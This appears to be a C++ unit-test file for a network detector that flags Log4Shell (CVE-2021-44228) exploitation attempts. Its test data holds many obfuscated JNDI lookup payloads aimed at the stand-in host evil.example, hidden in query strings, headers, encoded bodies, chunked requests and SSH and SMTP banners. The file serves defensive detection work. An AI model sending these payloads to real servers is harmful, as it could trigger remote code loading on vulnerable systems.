#include <gtest/gtest.h>

#include <random>

#include "network/detect/detector_for_tests.h"
#include "network/detect/log4j_lookups.h"
#include "network/detect/rows.h"

namespace plimsoll::network {
namespace {

using namespace std::chrono_literals;

TEST(Log4jLookups, WaysToWriteIt) {
  for (const char* text : {
           "${jndi:ldap://evil.example/a}",
           "x ${JNDI:LDAP://Evil.Example/a} y",
           "${${lower:J}ndi:${lower:L}dap://evil.example/a}",
           "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
           "${${env:NOTHING:-j}ndi${env:NOTHING:-:}${env:NOTHING:-l}dap://evil.example/a}",
           "${jnd${upper:\xC4\xB1}:ldap://evil.example/a}",
           "${${date:'j'}${date:'n'}di:ldap://evil.example:1389/a}",
           "${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}",
           "${jndi:ldap://user@evil.example",
           "${jndi:ldap://evil.example./a}",
           "${foo ${bar ${jndi:ldap://evil.example/a}",
       }) {
    const auto found = find_jndi(text);
    ASSERT_TRUE(found) << text;
    EXPECT_EQ(found->scheme, "ldap") << text;
    EXPECT_EQ(found->hosts, std::vector<std::string>{"evil.example"}) << text;
  }
}

TEST(Log4jLookups, AllHostsThatMayBeAsked) {
  const auto hidden = find_jndi("${jndi:ldap://127.0.0.1#evil.example:1389/a}");
  ASSERT_TRUE(hidden);
  EXPECT_EQ(hidden->hosts, (std::vector<std::string>{"127.0.0.1", "evil.example"}));
  const auto six = find_jndi("${jndi:rmi://[2001:db8::1]:1099/a}");
  ASSERT_TRUE(six);
  EXPECT_EQ(six->hosts, std::vector<std::string>{"2001:db8::1"});
}

TEST(Log4jLookups, WhatIsNone) {
  for (const char* text : {"jndi:ldap://evil.example/a", "${env:HOME}", "${jndi}", "${jndi:}", "${jndi:java:comp/env}",
                           "$ {jndi:ldap://x}", "{{jndi:ldap://x}}", "${${${${", "}}}}${", ""}) {
    EXPECT_FALSE(find_jndi(text)) << text;
  }
}

TEST(Log4jLookups, AreReadInLinearTime) {
  std::string text;
  for (int i = 0; i < 200'000; ++i) text += "${";
  EXPECT_FALSE(find_jndi(text));
  EXPECT_FALSE(find_jndi(text + std::string(1'000'000, '}')));
}

std::string post(std::string_view body, std::string_view headers = "") {
  return "POST /form HTTP/1.1\r\nHost: shop.example\r\n" + std::string(headers) +
         "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + std::string(body);
}

std::vector<std::string> attacks() {
  return {
      "GET /?q=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: x\r\n\r\n",
      "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1\r\nHost: x\r\n\r\n",
      "GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D HTTP/1.1\r\nHost: x\r\n\r\n",
      "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:dns://evil.example}\r\n\r\n",
      "GET / HTTP/1.1\r\nX-Api-Version: ${${lower:j}ndi:\r\n ldap://evil.example/a}\r\n\r\n",
      post("name=$%7Bjndi:ldap://evil.example/a%7D"),
      post(R"({"name": "\u0024\u007bjndi:ldap://evil.example/a}"})"),
      post("<name>&#36;&#x7b;jndi:ldap://evil.example/a}</name>"),
      post("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n${jndi:ldap://evil.example/a}\r\n--b--\r\n"),
      post(deflated("${jndi:ldap://evil.example/a}", gzip_window), "Content-Encoding: gzip\r\n"),
      "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n6\r\n${jndi\r\n17\r\n:ldap://evil.example/a}\r\n0\r\n\r\n",
      "SSH-2.0-${jndi:ldap://evil.example/a}\r\n",
      "EHLO ${jndi:ldap://evil.example/a}\r\n",
  };
}

TEST(Log4Shell, FoundInRequestsHoweverTheyAreCut) {
  for (const std::string& attack : attacks()) {
    for (const bool slowly : {false, true}) {
      Watched watched(log4shell_row);
      const FlowRecord flow = watched.flow("198.51.100.7", 4000, "10.0.0.2", 8080);
      slowly ? watched.client_slowly(flow, attack) : watched.client(flow, attack);
      watched.leave(flow);
      ASSERT_EQ(watched.findings().size(), 1u) << attack << slowly;
      const Finding found = watched.findings()[0];
      EXPECT_EQ(found.severity, SeverityLevel::critical);
      EXPECT_EQ(found.cves[0], "CVE-2021-44228");
      EXPECT_EQ(found.outcome, Finding::Outcome::attempt);
      EXPECT_NE(found.evidence.find("evil.example"), std::string::npos) << found.evidence;
    }
  }
}

TEST(Log4Shell, ABodyThatIsNotFinishedIsLookedIntoAfterASecond) {
  Watched watched(log4shell_row);
  const FlowRecord flow = watched.flow("198.51.100.7", 4000, "10.0.0.2", 8080);
  watched.client(flow, "POST / HTTP/1.1\r\nContent-Length: 100000\r\n\r\n" + std::string(1000, 'x'));
  watched.client(flow, "${jndi:ldap://evil.example/a}");
  watched.pass(2s);
  EXPECT_EQ(watched.findings().size(), 1u);
}

TEST(Log4Shell, LookAlikesStaySilent) {
  Watched watched(log4shell_row);
  const FlowRecord flow = watched.flow("198.51.100.7", 4000, "10.0.0.2", 8080);
  watched.client(flow, "GET /docs?title=jndi:ldap HTTP/1.1\r\nX-Note: jndi:ldap://evil.example/a\r\n\r\n");
  watched.client(flow, post("template=${user.name} and ${JAVA_HOME} costs $100 {jndi:ldap://x}"));
  watched.pass(2s);
  watched.leave(flow);
  EXPECT_TRUE(watched.findings().empty());
}

TEST(Log4Shell, SentToAStoreOfLogsItIsLow) {
  Watched watched(log4shell_row);
  const FlowRecord flow = watched.flow("10.0.0.3", 4000, "10.0.0.2", 9200);
  const std::string body = "{\"index\":{}}\n{\"line\":\"GET /?q=${jndi:ldap://evil.example/a}\"}\n";
  watched.client(flow,
                 "POST /logs/_bulk HTTP/1.1\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
  ASSERT_EQ(watched.findings().size(), 1u);
  EXPECT_EQ(watched.findings()[0].severity, SeverityLevel::low);
}

TEST(Log4Shell, TheCallBackConfirmsIt) {
  const auto attacked = [](std::string_view host) {
    Watched watched(log4shell_row);
    const FlowRecord flow = watched.flow("198.51.100.7", 4000, "10.0.0.2", 8080);
    watched.client(flow, "GET /?q=${jndi:ldap://" + std::string(host) + ":1389/a} HTTP/1.1\r\n\r\n");
    watched.pass(10s);
    return watched;
  };
  Watched by_address = attacked("203.0.113.9");
  by_address.event(FlowEvent::opened, by_address.flow("10.0.0.3", 5000, "203.0.113.9", 1389));  // somebody else
  EXPECT_EQ(by_address.findings()[0].outcome, Finding::Outcome::attempt);
  by_address.event(FlowEvent::opened, by_address.flow("10.0.0.2", 5000, "203.0.113.9", 1389));
  ASSERT_EQ(by_address.findings().size(), 1u);
  EXPECT_EQ(by_address.findings()[0].outcome, Finding::Outcome::confirmed);

  Watched by_name = attacked("evil.example");
  by_name.client(by_name.flow("10.0.0.2", 5000, "10.0.0.53", 53, Transport::udp),
                 std::string_view("\1\2\1\0\0\1\0\0\0\0\0\0\4Evil\7example\0\0\1\0\1", 30));
  EXPECT_EQ(by_name.findings()[0].outcome, Finding::Outcome::confirmed);

  Watched late = attacked("203.0.113.9");
  late.pass(60s);
  late.event(FlowEvent::opened, late.flow("10.0.0.2", 5000, "203.0.113.9", 1389));
  EXPECT_EQ(late.findings()[0].outcome, Finding::Outcome::attempt);
}

// Whatever is said, nothing breaks and little is told.
TEST(Log4Shell, SurvivesNoise) {
  std::mt19937 random(1);
  Watched watched(log4shell_row);
  for (int i = 0; i < 2000; ++i) {
    const FlowRecord flow = watched.flow("198.51.100.7", static_cast<uint16_t>(i), "10.0.0.2", 8080);
    std::string bytes = attacks()[random() % attacks().size()];
    for (int j = 0; j < 5; ++j) bytes[random() % bytes.size()] = static_cast<char>(random());
    watched.client(flow, bytes);
    watched.leave(flow);
  }
  EXPECT_LE(watched.findings().size(), 1u);
}

}  // namespace
}  // namespace plimsoll::network
